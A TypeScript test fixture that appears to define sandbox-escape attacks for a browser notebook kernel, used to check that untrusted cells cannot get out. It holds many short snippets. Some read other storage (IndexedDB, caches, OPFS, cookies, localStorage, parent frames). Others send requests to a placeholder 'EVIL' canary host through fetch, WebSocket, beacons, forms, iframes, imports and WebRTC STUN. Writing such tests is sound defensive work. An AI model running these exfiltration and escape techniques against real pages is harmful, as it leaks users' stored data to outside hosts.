/*
 * What a stranger's cell may try. An attack has succeeded when it prints STOLEN, when the canary sees a request with its
 * name, or when the page around it notes its name. The same code runs behind the walls and, to show that it is real,
 * without them.
 */
export interface Attack {
  name: string;
  /** Where it runs: as a cell, or in the sandboxed window itself, as if somebody had broken out of the worker into it. */
  realm: "cell" | "window";
  language?: "python" | "typescript";
  code: string;
}

type Evil = { url: string; udp: string };

/** `code` may use `EVIL`, the canary's address, and `STUN`. */
const cell = (name: string, code: string): Attack => ({ name, realm: "cell", language: "typescript", code });
const python = (name: string, code: string): Attack => ({ name, realm: "cell", language: "python", code });
/**
 * Plain JavaScript in a worker that a Python cell starts: neither the compiler of TypeScript cells, which hides most of the
 * browser from them, nor anything else of ours stands between it and the walls.
 */
const raw = (name: string, code: string): Attack =>
  python(
    name,
    `import js, asyncio
from pyodide.ffi import create_proxy, to_js
code = ${JSON.stringify(`(async () => {${code}\n})().then((said) => postMessage(String(said)), (error) => postMessage("no: " + error))`)}
inner = js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([code]))))
said = asyncio.get_running_loop().create_future()
hear = create_proxy(lambda event: said.done() or said.set_result(str(event.data)))
inner.onmessage = inner.onerror = hear
try:
    print(await asyncio.wait_for(said, 4))
except TimeoutError:
    print("silent")`,
  );
const window = (name: string, code: string): Attack => ({ name, realm: "window", code });

const opened = `const db = await new Promise((done, fail) => {
  const open = indexedDB.open("victim");
  open.onsuccess = () => done(open.result);
  open.onerror = () => fail(open.error);
});`;
const storage: Attack[] = [
  raw(
    "database",
    `${opened}
const got = await new Promise((done) => {
  const ask = db.transaction("notes").objectStore("notes").get("secret");
  ask.onsuccess = () => done(ask.result);
});
db.close();
return "STOLEN " + got`,
  ),
  raw("databases", `return (await indexedDB.databases()).map((d) => "STOLEN " + d.name)`),
  raw(
    "overwrite",
    `${opened}
await new Promise((done) => {
  const put = db.transaction("notes", "readwrite").objectStore("notes").put("overwritten", "mine");
  put.onsuccess = done;
});
db.close();
return "STOLEN"`,
  ),
  raw("cache", `return "STOLEN " + (await (await (await caches.open("victim")).match("SITEsecret")).text())`),
  raw(
    "files",
    `const folder = await navigator.storage.getDirectory();
return "STOLEN " + (await (await (await folder.getFileHandle("secret")).getFile()).text())`,
  ),
  raw("locks", `if ((await navigator.locks.query()).held.some((l) => l.name === "victim")) return "STOLEN"`),
  raw(
    "channel",
    `new BroadcastChannel("victim").postMessage("channel"); await new Promise((on) => setTimeout(on, 100))`,
  ),
  raw("ownFiles", `return "STOLEN " + (await (await fetch("SITEindex.html")).text()).length`),
  raw(
    "ownFilesXhr",
    `const x = new XMLHttpRequest(); x.open("GET", "SITEindex.html", false); x.send(); return "STOLEN " + x.responseText.length`,
  ),
  python("pythonStorage", `import js\nif (await js.indexedDB.databases()).length: print("STO" + "LEN")`),
];

const network: Attack[] = [
  cell("cellFetch", `await fetch(EVIL + "/cellFetch")`),
  cell("cellPost", `await fetch(EVIL + "/cellPost", { method: "POST", mode: "no-cors", body: "data" })`),
  raw("fetch", `await fetch("EVIL/fetch")`),
  raw("keepalive", `await fetch("EVIL/keepalive", { mode: "no-cors", keepalive: true })`),
  raw("request", `await fetch(new Request("EVIL/request", { credentials: "include" }))`),
  raw("xhr", `const x = new XMLHttpRequest(); x.open("GET", "EVIL/xhr", false); x.send()`),
  raw(
    "socket",
    `await new Promise((done) => { const s = new WebSocket("EVIL/socket".replace("http", "ws")); s.onerror = s.onclose = done })`,
  ),
  raw(
    "events",
    `await new Promise((done) => { const s = new EventSource("EVIL/events"); s.onerror = s.onopen = () => { s.close(); done() } })`,
  ),
  raw("module", `await import("EVIL/module")`),
  raw("dataModule", `await import("data:text/javascript,import 'EVIL/dataModule-module'")`),
  raw("scripts", `importScripts("EVIL/scripts-module")`),
  raw("font", `await new FontFace("x", "url(EVIL/font)").load()`),
  raw(
    "nested",
    `const code = "fetch('EVIL/nested', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))";
const inner = new Worker(URL.createObjectURL(new Blob([code])));
await new Promise((done) => { inner.onmessage = inner.onerror = done })`,
  ),
  raw("eval", `await new Function("return fetch('EVIL/eval')")()`),
  python("pythonFetch", `import js\nawait js.fetch("EVIL/pythonFetch")`),
  python("pyfetch", `from pyodide.http import pyfetch\nawait pyfetch("EVIL/pyfetch")`),
  python("openUrl", `from pyodide.http import open_url\nopen_url("EVIL/openUrl")`),
  python("pythonXhr", `import js\nx = js.XMLHttpRequest.new()\nx.open("GET", "EVIL/pythonXhr", False)\nx.send()`),
];

/** Asks a STUN server at the canary who one is. */
const peer = (
  realm: string,
) => `const peer = new ${realm}.RTCPeerConnection({ iceServers: [{ urls: "stun:" + STUN }] });
peer.createDataChannel("x");
await peer.setLocalDescription(await peer.createOffer());
await new Promise((on) => setTimeout(on, 1_500));
peer.close()`;

const inWindow: Attack[] = [
  window("localStorage", `if (localStorage.getItem("secret")) return "STOLEN"`),
  window("cookie", `if (document.cookie.includes("secret")) return "STOLEN"`),
  window("parent", `parent.parent.document.documentElement.dataset.touched = "parent"; return "STOLEN"`),
  window("top", `if (top.document.body.innerHTML.length) return "STOLEN"`),
  window(
    "image",
    `await new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = EVIL + "/image" })`,
  ),
  window("beacon", `navigator.sendBeacon(EVIL + "/beacon", "x")`),
  window(
    "form",
    `const f = document.createElement("form"); f.action = EVIL + "/form"; f.target = "there"; f.method = "get";
const i = document.createElement("iframe"); i.name = "there"; document.body.append(i, f); f.submit()`,
  ),
  window(
    "innerFrame",
    `const i = document.createElement("iframe"); i.src = EVIL + "/innerFrame"; document.body.append(i)`,
  ),
  window(
    "stylesheet",
    `const l = document.createElement("link"); l.rel = "stylesheet"; l.href = EVIL + "/stylesheet"; document.head.append(l)`,
  ),
  window(
    "prefetch",
    `const l = document.createElement("link"); l.rel = "prefetch"; l.href = EVIL + "/prefetch"; document.head.append(l)`,
  ),
  window(
    "script",
    `const s = document.createElement("script"); s.src = EVIL + "/script-module"; document.head.append(s)`,
  ),
  window("popup", `window.open(EVIL + "/popup")`),
  window(
    "media",
    `const v = document.createElement("video"); v.src = EVIL + "/media"; document.body.append(v); v.load()`,
  ),
  window("rtc", peer("self")),
  window("rtcInner", `const i = document.createElement("iframe"); document.body.append(i); ${peer("i.contentWindow")}`),
  window("selfNavigation", `location.href = EVIL + "/selfNavigation"`),
];

/** All, in the order in which they run: what leads away from the window comes last. */
export const kernelAttacks: readonly Attack[] = [...storage, ...network, ...inWindow];

/** The attack's code with the addresses in it. */
export function armed({ code, language }: Attack, { url, udp }: Evil, site: string): string {
  if (language === "python") return code.replaceAll("EVIL", url).replaceAll("SITE", site);
  const names = `const EVIL = ${JSON.stringify(url)}, STUN = ${JSON.stringify(udp)}, SITE = ${JSON.stringify(site)};`;
  return `{ ${names}\n${code} }`;
}
